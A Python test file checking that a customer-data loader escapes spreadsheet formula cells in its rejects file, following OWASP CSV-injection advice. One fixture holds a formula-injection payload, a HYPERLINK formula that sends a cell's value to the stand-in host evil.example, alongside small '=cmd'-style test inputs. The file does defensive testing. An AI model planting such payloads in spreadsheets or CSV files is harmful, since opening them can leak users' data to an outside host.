"""The rejects file is opened in spreadsheets: its cells never start a formula (OWASP).

Before, a customer file whose bad row began ``=HYPERLINK(...)`` produced a rejects file whose
``raw`` cell a spreadsheet ran as a formula.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tactful.ingest.loader import Loader
from tactful.spreadsheet import spreadsheet_safe
from tactful.store.store import Store

HEADER = (
    "customer_id,region,locale,timezone,personalization_level,channel_preferences,"
    "quiet_hours_start,quiet_hours_end,segment,created_at,age_band,gender\n"
)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+41 79 000", "'+41 79 000"),
        ("-12.50", "-12.50"),  # a plain number runs nothing
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("C-1001", "C-1001"),
        ("line 3", "line 3"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_the_rejects_file_neutralizes_formula_cells(store: Store, tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"fix")'
    path = tmp_path / "customers.csv"
    path.write_text(
        HEADER
        + f'"{payload}",MARS,de_DE,Europe/Berlin,moderate,in_app,,,,2021-03-14T09:12:00Z,,\n'
        + "C-1,EU,de_DE,Europe/Berlin,moderate,in_app,,,,2021-03-14T09:12:00Z,,\n",
        "utf-8",
    )
    report = Loader(store, report_dir=tmp_path / "reports").ingest([path])
    (file,) = report.files
    assert file.rejected == 1 and file.rejects_path is not None
    with open(file.rejects_path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["file", "location", "field", "reason", "raw"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert any(c.startswith("'=HYPERLINK(") for c in cells), cells
